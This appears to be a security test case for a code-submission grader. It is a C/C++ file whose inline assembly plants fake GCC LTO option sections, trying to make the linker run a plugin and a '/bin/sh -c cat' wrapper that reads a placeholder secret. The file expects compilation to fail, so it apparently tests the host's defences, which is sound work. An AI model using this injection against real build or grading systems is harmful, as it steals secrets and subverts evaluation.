// SPDX-License-Identifier: MIT
// class: Host: plugins of the compiler
// tries: to have the linker run its plugin with options that the object brings along.
// expect: passed failed compile
// hides: @SECRET@
#include "attack.h"

__asm__(".section .gnu.lto_.opts,\"e\",@progbits\n"
		".string \"'-fplugin=/job/submission.cpp' '-wrapper' '/bin/sh,-c,cat<@CANARY@' '-B/tmp'\"\n"
		".section .gnu.lto_main.0.0123456789abcdef,\"e\",@progbits\n.zero 64\n"
		".section .gnu.lto_.lto.0123456789abcdef,\"e\",@progbits\n.zero 64\n"
		".section .deplibs,\"MS\",@progbits,1\n.string \"@CANARY@\"\n.previous\n"
		".globl __gnu_lto_slim\n.comm __gnu_lto_slim,1\n");

void custom_kernel(const input_t &input, output_t &output)
{
	tried();
	honest(input, output);
}
